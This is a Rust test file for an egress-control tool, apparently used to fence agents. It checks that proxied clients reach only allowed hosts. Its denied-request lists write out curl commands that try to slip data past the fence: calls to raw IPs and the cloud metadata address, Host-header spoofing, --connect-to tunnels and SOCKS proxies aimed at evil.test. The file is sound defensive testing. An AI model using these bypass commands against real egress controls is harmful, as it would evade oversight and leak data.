//! The same gates for clients that ask a proxy: `egressctl run --proxy-env`.

use crate::{
    AGENT,
    attack::{stops, works},
    fence,
    places::{EVIL, OK},
    policies::COMMON,
};

#[test]
fn clients_that_use_the_proxy_reach_allowed_names_and_no_other() {
    let fence = fence(COMMON);
    let agent = fence.agent(AGENT).with(&["--proxy-env"]);
    let fetch = [
        "curl -v -sSf -m 5 https://{host}/ 2>&1 | grep 'CONNECT {host}:443'",
        "curl -sSf -m 5 https://{host}/ | grep 'hello from {host}'",
        "curl -sSf -m 5 http://{host}/ | grep 'hello from {host}'",
        "{trick} fetch https://{host}/",
        "{trick} fetch http://{host}/",
    ];
    works(&agent, OK, &fetch);
    let denied = [
        "curl -sk -m 2 https://{mark}.{host}/",
        "curl -s -m 2 http://{mark}.{host}/",
        "curl -sk -m 2 https://{v4}/",
        "curl -sk -m 2 https://[{v6}]/",
        "curl -s -m 2 http://{v4}/{mark}",
        "curl -s -m 2 -p http://{v4}:9000/{mark}",
        "curl -s -m 2 http://169.254.169.254/{mark}",
        "{trick} fetch https://{host}/",
    ];
    stops(&agent, EVIL, &denied);
}

#[test]
fn a_tunnel_carries_only_the_name_that_it_was_asked_for() {
    let fence = fence(COMMON);
    let agent = fence.agent(AGENT).with(&["--proxy-env"]);
    let flows = [
        "curl -sk -m 2 --connect-to {mark}.evil.test:443:{host}:443 https://{mark}.evil.test/",
        "curl -s -m 2 -H 'Host: {mark}.evil.test' http://{host}/",
        "curl -s -m 2 -p http://{host}:443/{mark}",
        "curl -s -m 2 -p http://{host}:8080/{mark}",
    ];
    stops(&agent, OK, &flows);
}

#[test]
fn clients_that_speak_socks_reach_allowed_names_and_no_other() {
    let fence = fence(COMMON);
    let agent = fence.agent(AGENT).with(&["--proxy-env"]);
    let fetch = [
        "curl -sSf -m 5 -x socks5h://${http_proxy#http://} https://{host}/ | grep 'hello from {host}'",
        "curl -sSf -m 5 -x socks5h://${http_proxy#http://} http://{host}/ | grep 'hello from {host}'",
    ];
    works(&agent, OK, &fetch);
    let denied = [
        "curl -sk -m 2 ${http_proxy:+-x socks5h://${http_proxy#http://}} https://{mark}.{host}/",
        "curl -s -m 2 ${http_proxy:+-x socks5h://${http_proxy#http://}} http://{host}/{mark}",
        "curl -sk -m 2 ${http_proxy:+-x socks5://${http_proxy#http://}} https://{v4}/{mark}",
        "curl -sk -m 2 ${http_proxy:+-x socks4a://${http_proxy#http://}} https://{host}/{mark}",
    ];
    stops(&agent, EVIL, &denied);
}

#[test]
fn a_denied_request_is_answered_with_the_reason_and_the_remedy() {
    let fence = fence(COMMON);
    let agent = fence.agent(AGENT).with(&["--proxy-env"]);
    let outcome = agent.run("curl -s -i -m 2 http://evil.test/");
    assert!(outcome.stdout.starts_with("HTTP/1.1 403"), "{outcome:#?}");
    assert!(outcome.says("host-not-allowed") && outcome.says("host: evil.test"), "{outcome:#?}");
}

#[test]
fn the_variables_of_the_proxy_are_set_only_when_asked_for() {
    let fence = fence(COMMON);
    let variables = "env | grep -ic '^https_proxy='";
    let unasked = fence.agent(AGENT).run(variables);
    assert_eq!(unasked.stdout.trim(), "0", "{unasked:#?}");
    let asked = fence.agent(AGENT).with(&["--proxy-env"]).run(variables);
    assert!(asked.succeeded(), "{asked:#?}");
}
